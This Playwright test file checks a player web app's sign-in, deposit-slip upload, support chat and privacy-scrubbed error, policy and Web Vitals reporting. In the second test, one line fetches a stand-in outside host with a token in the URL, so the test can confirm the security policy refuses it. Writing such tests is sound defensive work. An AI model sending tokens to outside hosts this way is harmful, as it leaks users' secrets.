import { Agent, expectSent, rows, waitUntilLive, write } from '../support/chat.ts'
import { drawSlip, slipPayload } from '../support/slip-pictures.ts'
import { choose, DEPOSIT, jpeg, receivedNotice, sendButton } from '../support/slip-upload.ts'
import { turnAway } from '../support/visibility.ts'
import { expect, signIn, test } from './deployed.ts'

test('a player signs in, deposits and chats, with the API on another origin', async ({
  page,
  app,
  sandbox,
  reports,
}) => {
  const { phone } = await signIn(page, app, sandbox)

  await page.goto(`${app}${DEPOSIT}.account-SCB`)
  await page.getByRole('button', { name: 'Not credited? Upload the slip' }).click()
  await choose(page, jpeg(await drawSlip(page, { payload: slipPayload('20261122Deployed') })))
  await sendButton(page).click()
  await expect(receivedNotice(page)).toBeVisible()
  expect(await sandbox.requestsTo('/api/wallet/slip', phone)).toHaveLength(1)

  await sandbox.settings({ chatBot: false })
  await page.goto(`${app}/user/contact?dialog=chat`)
  await waitUntilLive(page)
  await write(page, 'Hello')
  await expectSent(page, 'Hello')
  const agent = new Agent(sandbox, phone)
  expect(await agent.heard()).toEqual(['Hello'])
  await agent.say('text', { message: 'Good day' })
  await expect(rows(page).last()).toContainText('Good day')

  // Nothing failed, and the policy refused nothing.
  expect(reports.filter(({ kind }) => kind !== 'vitals')).toEqual([])
})

test('errors, refusals of the policy and Web Vitals reach the operator, without anything personal', async ({
  page,
  app,
  sandbox,
  reports,
}) => {
  const { phone } = await signIn(page, app, sandbox)
  await page.goto(`${app}/user/home?invite=PR777`)
  await expect(page.getByText('500.00').first()).toBeVisible()
  // The code for reports comes after the first picture. Until then nothing is sent.
  await expect(async () => {
    await page.evaluate((text) => {
      const error = new TypeError(`Cannot read "${text}" of 500.00`)
      window.dispatchEvent(new ErrorEvent('error', { error }))
    }, phone)
    expect(reports).toContainEqual({
      kind: 'error',
      name: 'TypeError',
      message: 'Cannot read … of #',
      at: '',
      screen: '/user/home',
      build: expect.stringMatching(/^\d+\.\d+\.\d+/),
    })
  }).toPass()
  await page.evaluate(() => void fetch('https://elsewhere.example/x?token=secret').catch(() => {}))
  await expect
    .poll(() => reports)
    .toContainEqual(
      expect.objectContaining({
        kind: 'policy',
        directive: 'connect-src',
        refused: 'https://elsewhere.example',
      }),
    )
  await turnAway(page)
  await expect.poll(() => reports.map(({ kind }) => kind)).toContain('vitals')
  expect(reports.find(({ kind }) => kind === 'vitals')).toMatchObject({
    vitals: {
      ttfb: expect.any(Number),
      fcp: expect.any(Number),
      lcp: expect.any(Number),
      cls: expect.any(Number),
    },
  })
  for (const secret of [phone, 'PR777', 'token', '500']) expect(JSON.stringify(reports)).not.toContain(secret)
})
